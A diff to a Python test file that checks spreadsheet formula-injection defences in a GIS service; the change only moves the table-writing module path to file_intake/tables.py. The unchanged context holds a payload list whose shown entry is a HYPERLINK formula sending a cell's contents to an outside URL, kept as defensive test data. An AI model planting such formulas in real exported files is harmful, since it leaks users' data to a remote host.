@@ -1,6 +1,6 @@
 """Spreadsheet formula injection: every CSV and XLSX the service writes neutralises text
 that a spreadsheet would run as a formula, types XLSX text as text, and keeps numbers
-as numbers. Every writer goes through gis_service/core/tables.py; a new one elsewhere
+as numbers. Every writer goes through gis_service/file_intake/tables.py; a new one elsewhere
 fails the last test."""
 
 import csv
@@ -11,7 +11,7 @@ from pathlib import Path
 import pytest
 from openpyxl import load_workbook
 
-from gis_service.core.tables import cell, write_csv, write_xlsx
+from gis_service.file_intake.tables import cell, write_csv, write_xlsx
 
 PAYLOADS = [
     '=HYPERLINK("http://x/?"&B1,"详见附件")',
@@ -95,7 +95,7 @@ def test_a_joint_inspection_report_neutralises_a_finding(client, auth):
     assert cells and all(c.data_type == "s" and c.value == "'" + finding for c in cells)
 
 
-def test_every_table_writer_goes_through_core_tables():
+def test_every_table_writer_goes_through_file_intake_tables():
     writers = re.compile(r"csv\.writer\(|csv\.DictWriter\(|Workbook\(|\.to_csv\(|\.to_excel\(")
     found = [
         str(p.relative_to(PACKAGE))
@@ -104,7 +104,7 @@ def test_every_table_writer_goes_through_core_tables():
     ]
     # reference_data/packages.py and registry.py write reference folders for setup, not files for users
     assert sorted(found) == [
-        "core/tables.py",
+        "file_intake/tables.py",
         "joint_inspections/report.py",
         "reference_data/packages.py",
         "reference_data/registry.py",
